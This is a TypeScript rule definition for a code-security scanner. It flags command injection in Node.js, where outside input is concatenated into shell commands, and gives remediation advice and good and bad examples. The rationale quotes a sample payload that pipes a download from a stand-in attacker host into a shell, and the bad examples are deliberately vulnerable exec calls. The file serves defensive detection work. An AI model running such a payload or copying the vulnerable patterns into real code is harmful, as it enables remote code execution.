// Text from outside in a command line that a shell reads, followed from where it comes in.
import { defineCodeRule } from '../../src/gates/code/rule.ts';

export const rule = defineCodeRule({
  id: 'code/command-injection',
  title: 'Command line made from text from outside',
  rationale:
    'The shell reads the finished text, not the pieces: whoever sends one piece adds `; curl evil.example | sh` or `$(…)` and runs commands of their own with the rights of this process. The data was followed from where it comes in to the call, and no check on the way stops it.',
  remediation:
    "Run the program without a shell and hand each argument over by itself: `execFile('git', ['log', '--', branch])`. Put `--` before what could begin with a dash. Where a shell is needed, pass the text through the environment and write `\"$NAME\"` in a fixed script; or let through only what is in a list of known values.",
  severity: 'critical',
  confidence: 'high',
  blocks: true,
  cwe: [78, 77],
  references: [
    'https://cwe.mitre.org/data/definitions/78.html',
    'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
    'https://nodejs.org/api/child_process.html#child_processexecfilefile-args-options-callback',
  ],
  examples: {
    bad: [
      {
        file: 'example.js',
        code: "const { exec } = require('child_process');\nconst http = require('http');\nhttp.createServer((req, res) => {\n  const host = new URL(req.url, 'http://localhost').searchParams.get('host');\n  exec('ping -c 1 ' + host, (error, out) => res.end(out));\n}).listen(80);",
      },
      {
        code: "import { execSync } from 'node:child_process';\nimport express from 'express';\nfunction log(branch: string) { return execSync(`git log ${branch}`); }\nexpress().get('/log', (req, res) => { res.send(log(req.query.branch)); });",
      },
      {
        file: 'example.js',
        code: "const cp = require('child_process');\nmodule.exports = function (dir, done) {\n  var command = 'ls -l ';\n  command += dir;\n  cp.exec(command, done);\n};",
      },
    ],
    good: [
      {
        code: "import { execFile } from 'node:child_process';\nimport express from 'express';\nexpress().get('/log', (req, res) => { execFile('git', ['log', '--', req.query.branch], (error, out) => res.send(out)); });",
      },
      {
        file: 'example.js',
        code: "const { exec } = require('child_process');\nconst hosts = ['a.example', 'b.example'];\nmodule.exports = (host, done) => {\n  if (!hosts.includes(host)) throw new Error('unknown host');\n  exec('ping -c 1 ' + host, done);\n};",
      },
      {
        file: 'example.js',
        code: "const { exec } = require('child_process');\nmodule.exports = (port, done) => exec('lsof -i :' + Number(port), done);",
      },
    ],
  },
  match: {
    kind: 'flow',
    class: 'command',
    covers: ['code/shell-command-from-data', 'code/shell-command-variable'],
    harm: 'can run commands of their own',
    fix: 'Run the program without a shell and pass each argument by itself, as `execFile(program, [...])` does; put `--` before arguments that could begin with a dash.',
  },
});
